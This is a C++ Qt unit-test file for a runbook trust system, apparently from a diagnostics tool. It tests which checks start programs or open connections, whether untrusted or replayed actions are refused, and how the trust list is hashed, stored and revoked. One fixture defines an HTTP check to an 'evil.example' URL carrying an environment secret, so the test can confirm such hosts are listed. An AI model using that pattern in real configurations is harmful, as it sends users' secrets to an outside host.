// SPDX-License-Identifier: Apache-2.0
#include "diagnostics/platform/shippedhashes.h"
#include "diagnostics/platform/trust.h"

#include <QCryptographicHash>
#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>
#include <unistd.h>

using namespace sitrep;
using namespace Qt::StringLiterals;

namespace {

const QString now = u"2025-09-15T18:05:00Z"_s;

Runbook runbookOf(const QString &path, const QByteArray &bytes)
{
    Runbook runbook;
    runbook.path = path;
    runbook.bytes = bytes;
    return runbook;
}

Check checkOf(CheckKind kind, const QByteArray &config)
{
    Check check;
    check.id = u"c"_s;
    check.kind = kind;
    check.config = QJsonDocument::fromJson(QByteArray(config).replace('\'', '"')).object();
    return check;
}

Runbook withSources()
{
    Runbook runbook;
    LogSource filesOnly;
    filesOnly.id = u"files"_s;
    filesOnly.files = QStringList{u"*.log"_s};
    LogSource both = filesOnly;
    both.id = u"both"_s;
    both.read = QStringList{u"gcloud"_s, u"logging"_s, u"read"_s};
    runbook.logSources = {filesOnly, both};
    return runbook;
}

QByteArray bytesOf(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

void write(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
}

} // namespace

class TestTrust : public QObject
{
    Q_OBJECT

private slots:
    void init() { QTest::failOnWarning(QRegularExpression(u".*"_s)); }

    void reach_data()
    {
        QTest::addColumn<Check>("check");
        QTest::addColumn<bool>("filesMatch");
        QTest::addColumn<Reach>("reach");
        const auto row = [](const char *name, CheckKind kind, const QByteArray &config, Reach reach,
                            bool filesMatch = true) {
            QTest::newRow(name) << checkOf(kind, config) << filesMatch << reach;
        };
        row("variables of files", CheckKind::Variables, "{'from': ['a.env']}", Reach::ReadsOnly);
        row("variables of the process", CheckKind::Variables, "{'from': ['process']}", Reach::ReadsOnly);
        row("variables of the process, one word", CheckKind::Variables, "{'from': 'process'}", Reach::ReadsOnly);
        row("variables of the loaded environment", CheckKind::Variables, "{'required': ['A']}", Reach::ReadsOnly);
        row("variables of a command", CheckKind::Variables, "{'from': {'command': ['gcloud']}}", Reach::StartsProgram);
        row("variables of an odd command", CheckKind::Variables, "{'from': {'command': 'x'}}", Reach::StartsProgram);
        row("settings", CheckKind::Settings, "{'file': 'a.json'}", Reach::ReadsOnly);
        row("agree", CheckKind::Agree, "{'a': 'b.c', 'd': 'e.f'}", Reach::ReadsOnly);
        row("junit", CheckKind::Junit, "{'files': ['*.xml']}", Reach::ReadsOnly);
        row("manual", CheckKind::Manual, "{'question': '?'}", Reach::ReadsOnly);
        row("dns", CheckKind::Dns, "{'name': 'a'}", Reach::Connects);
        row("tcp", CheckKind::Tcp, "{'address': 'a:1'}", Reach::Connects);
        row("tls", CheckKind::Tls, "{'address': 'a:1'}", Reach::Connects);
        row("http", CheckKind::Http, "{'url': 'http://a'}", Reach::Connects);
        row("postgres", CheckKind::Postgres, "{'url': 'postgres://a'}", Reach::Connects);
        row("prometheus", CheckKind::Prometheus, "{'url': 'http://a'}", Reach::Connects);
        row("command", CheckKind::Command, "{'arguments': ['true']}", Reach::StartsProgram);
        row("plugin", CheckKind::Plugin, "{'arguments': ['check']}", Reach::StartsProgram);
        row("logs of files", CheckKind::Logs, "{'source': 'files'}", Reach::ReadsOnly);
        row("logs of files that are not there", CheckKind::Logs, "{'source': 'files'}", Reach::ReadsOnly, false);
        row("logs with read, files are there", CheckKind::Logs, "{'source': 'both'}", Reach::ReadsOnly);
        row("logs with read, no files", CheckKind::Logs, "{'source': 'both'}", Reach::StartsProgram, false);
        row("logs of no known source", CheckKind::Logs, "{'source': 'x'}", Reach::ReadsOnly, false);
    }
    void reach()
    {
        QFETCH(Check, check);
        QFETCH(bool, filesMatch);
        QFETCH(Reach, reach);
        QCOMPARE(reachOf(check, withSources(), filesMatch), reach);
    }

    void refusals_data()
    {
        QTest::addColumn<Reach>("reach");
        QTest::addColumn<bool>("replay");
        QTest::addColumn<bool>("trusted");
        QTest::addColumn<int>("refused"); // -1: go ahead
        const int replay = int(FailureClass::Replay);
        const int notTrusted = int(FailureClass::NotTrusted);
        QTest::newRow("reading needs no trust") << Reach::ReadsOnly << false << false << -1;
        QTest::newRow("reading is done in a replay") << Reach::ReadsOnly << true << false << -1;
        QTest::newRow("an untrusted program") << Reach::StartsProgram << false << false << notTrusted;
        QTest::newRow("an untrusted connection") << Reach::Connects << false << false << notTrusted;
        QTest::newRow("a trusted program") << Reach::StartsProgram << false << true << -1;
        QTest::newRow("a trusted connection") << Reach::Connects << false << true << -1;
        QTest::newRow("a trusted program of the past") << Reach::StartsProgram << true << true << replay;
        QTest::newRow("replay stands before trust") << Reach::Connects << true << false << replay;
    }
    void refusals()
    {
        QFETCH(Reach, reach);
        QFETCH(bool, replay);
        QFETCH(bool, trusted);
        QFETCH(int, refused);
        const auto answer = refusal(reach, replay, trusted);
        QCOMPARE(answer ? int(*answer) : -1, refused);
    }

    void demandsNameEveryProgramAndHost()
    {
        Runbook runbook = withSources();
        runbook.checks = {
            checkOf(CheckKind::Command, "{'arguments': ['gcloud', '${x}']}"),
            checkOf(CheckKind::Http, "{'url': 'https://evil.example/?k=${env:KEY}'}"),
            checkOf(CheckKind::Settings, "{'file': 'a'}"),
            checkOf(CheckKind::Logs, "{'source': 'both'}"),
            checkOf(CheckKind::Variables, "{'from': {'command': ['aws', 'env']}}"),
            checkOf(CheckKind::Dns, "{'name': 'db.internal', 'servers': ['10.0.0.2', '127.0.0.9:5399']}")};
        ChangeSource revisions;
        revisions.command = QStringList{u"git"_s, u"log"_s};
        const ChangeSource commits; // read with libgit2
        runbook.changes = {revisions, commits};
        Step step;
        step.what = u"Roll back"_s;
        step.command = QStringList{u"kubectl"_s, u"rollout"_s};
        step.undo = QStringList{u"kubectl"_s, u"undo"_s};
        StepGroup group;
        group.steps = {step};
        runbook.remediation = {group};

        QStringList printed;
        for (const Demand &demand : demandsOf(runbook))
            printed.append(demand.arguments.join(u' ') + demand.target);
        QCOMPARE(printed, (QStringList{u"gcloud ${x}"_s, u"https://evil.example/?k=${env:KEY}"_s,
                                       u"gcloud logging read"_s, u"aws env"_s, u"db.internal"_s, u"10.0.0.2"_s,
                                       u"127.0.0.9:5399"_s, u"git log"_s, u"kubectl rollout"_s, u"kubectl undo"_s}));
    }

    void anyChangeIsAnotherHash()
    {
        const Runbook base = runbookOf(u"/srv/a.yaml"_s, "title: x");
        const QByteArray hash = trustHash(base);
        QCOMPARE(hash.size(), 64);
        QVERIFY(trustHash(runbookOf(u"/srv/b.yaml"_s, "title: x")) != hash);
        QVERIFY(trustHash(runbookOf(u"/srv/a.yaml"_s, "title: x ")) != hash);
        QVERIFY(trustHash(runbookOf(u"/srv/a.yaml\ntitle: x"_s, "")) != hash);
        Runbook withRecipe = base;
        withRecipe.recipeSha256 = {QByteArray(64, 'a')};
        QVERIFY(trustHash(withRecipe) != hash);
        QVERIFY(trustHash(runbookOf(u"/srv/a.yaml"_s, QByteArray("title: x") + QByteArray(64, 'a')))
                != trustHash(withRecipe));
    }

    void trustIsKeptAndRevoked()
    {
        const QTemporaryDir folder;
        const QString file = folder.filePath(u"deep/sitrep/trust"_s);
        const Runbook runbook = runbookOf(u"/srv/my runbook\nü.yaml"_s, "title: x");
        const Runbook edited = runbookOf(runbook.path, "title: y");
        TrustList list(file);
        QVERIFY(!list.isTrusted(runbook));
        QCOMPARE(list.trust(runbook, now), std::nullopt);
        QVERIFY(list.isTrusted(runbook));
        QVERIFY(!list.isTrusted(edited));
        QCOMPARE(list.trust(edited, now), std::nullopt);
        QCOMPARE(list.trust(edited, now), std::nullopt); // twice is once

        TrustList again(file);
        QCOMPARE(again.entries().size(), 2);
        QCOMPARE(again.entries().at(0).path, runbook.path);
        QCOMPARE(again.entries().at(0).trustedAt, now);
        QVERIFY(again.isTrusted(runbook));
        struct stat info
        {};
        QCOMPARE(::stat(QFile::encodeName(file).constData(), &info), 0);
        QCOMPARE(int(info.st_mode & 0777), 0600);

        int revoked = 0;
        QCOMPARE(again.revoke(runbook.path, &revoked), std::nullopt);
        QCOMPARE(revoked, 2);
        QVERIFY(!again.isTrusted(runbook));
        QVERIFY(!TrustList(file).isTrusted(edited));
        QCOMPARE(again.revoke(u"/nowhere"_s, &revoked), std::nullopt);
        QCOMPARE(revoked, 0);
    }

    void twoAtOnceKeepBothEntries()
    {
        const QTemporaryDir folder;
        const QString file = folder.filePath(u"trust"_s);
        TrustList one(file);
        TrustList two(file);
        QCOMPARE(one.trust(runbookOf(u"/a"_s, "a"), now), std::nullopt);
        QCOMPARE(two.trust(runbookOf(u"/b"_s, "b"), now), std::nullopt);
        QCOMPARE(TrustList(file).entries().size(), 2);
    }

    void damage_data()
    {
        QTest::addColumn<QByteArray>("before");
        QTest::newRow("empty lines") << QByteArray("\n\n");
        QTest::newRow("a short hash") << QByteArray("abc 2025 /a\n");
        QTest::newRow("upper-case hash") << QByteArray(64, 'A') + " t /a\n";
        QTest::newRow("no path") << QByteArray(64, 'a') + "\n";
        QTest::newRow("no time") << QByteArray(64, 'a') + " /a\n";
        QTest::newRow("binary") << QByteArray("\x00\xff\xfe\n\x01", 5);
        QTest::newRow("one endless line") << QByteArray(100'000, 'x');
    }
    void damage()
    {
        QFETCH(QByteArray, before);
        const QTemporaryDir folder;
        const QString file = folder.filePath(u"trust"_s);
        const Runbook runbook = runbookOf(u"/srv/a.yaml"_s, "title: x");
        write(file, before + '\n' + trustHash(runbook) + " " + now.toUtf8() + " /srv/a.yaml\n" + before);
        TrustList list(file);
        QCOMPARE(list.entries().size(), 1);
        QVERIFY(list.isTrusted(runbook));
        QVERIFY(!list.isTrusted(runbookOf(u"/a"_s, "a")));
    }

    void aFolderInItsPlaceIsNoTrust()
    {
        const QTemporaryDir folder;
        TrustList list(folder.path());
        QVERIFY(list.entries().isEmpty());
        const Runbook runbook = runbookOf(u"/srv/a.yaml"_s, "title: x");
        const auto error = list.trust(runbook, now);
        QVERIFY(error);
        QVERIFY2(error->contains(folder.path()), qPrintable(*error));
        QVERIFY(list.isTrusted(runbook)); // for as long as this process runs
        QVERIFY(!TrustList(folder.path()).isTrusted(runbook));
    }

    void aFileWhereAFolderShouldBeIsSaid()
    {
        const QTemporaryDir folder;
        write(folder.filePath(u"sitrep"_s), "x");
        TrustList list(folder.filePath(u"sitrep/trust"_s));
        const auto error = list.trust(runbookOf(u"/a"_s, "a"), now);
        QVERIFY(error);
        QVERIFY2(error->startsWith(u"the list of trusted runbooks"_s), qPrintable(*error));
    }

    void aReadOnlyHomeIsSaid()
    {
        if (::geteuid() == 0)
            QSKIP("nothing is read-only to root");
        const QTemporaryDir folder;
        QVERIFY(QFile::setPermissions(folder.path(), QFile::ReadOwner | QFile::ExeOwner));
        TrustList list(folder.filePath(u"trust"_s));
        QVERIFY(list.trust(runbookOf(u"/a"_s, "a"), now));
        QFile::setPermissions(folder.path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    }

    void defaultFileIsInTheConfigFolder()
    {
        QCOMPARE(TrustList::defaultFile(), qEnvironmentVariable("XDG_CONFIG_HOME") + u"/sitrep/trust"_s);
    }

    void everyRunbookThatShipsIsTrustedWhereverItLies()
    {
        const QTemporaryDir folder;
        const TrustList list(folder.filePath(u"trust"_s));
        const QString resources = qEnvironmentVariable("SITREP_SOURCE_DIR") + u"/resources"_s;
        QSet<QByteArray> expected;
        for (const QString &part : {u"/runbooks"_s, u"/recipes"_s}) {
            QDirIterator files(resources + part, {u"*.yaml"_s}, QDir::Files, QDirIterator::Subdirectories);
            while (files.hasNext()) {
                const QString path = files.next();
                if (part == u"/runbooks"_s && files.fileName() != u"runbook.yaml"_s)
                    continue;
                expected.insert(QCryptographicHash::hash(bytesOf(path), QCryptographicHash::Sha256).toHex());
                QVERIFY2(list.isTrusted(runbookOf(u"/elsewhere.yaml"_s, bytesOf(path))), qPrintable(path));
                QVERIFY(!list.isTrusted(runbookOf(path, bytesOf(path) + " ")));
            }
        }
        QVERIFY(expected.size() >= 3);
        QSet<QByteArray> shipped;
        for (const char *hash : shippedHashes())
            shipped.insert(hash);
        QCOMPARE(shipped, expected);
    }

    void aShippedRunbookWithAStrangeRecipeIsNotTrusted()
    {
        const QTemporaryDir folder;
        const QString path =
            qEnvironmentVariable("SITREP_SOURCE_DIR") + u"/resources/runbooks/staging-outage/runbook.yaml"_s;
        Runbook runbook = runbookOf(u"/elsewhere.yaml"_s, bytesOf(path));
        runbook.recipeSha256 = {QByteArray(64, 'a')};
        QVERIFY(!TrustList(folder.filePath(u"trust"_s)).isTrusted(runbook));
    }
};

QTEST_GUILESS_MAIN(TestTrust)
#include "tst_trust.moc"
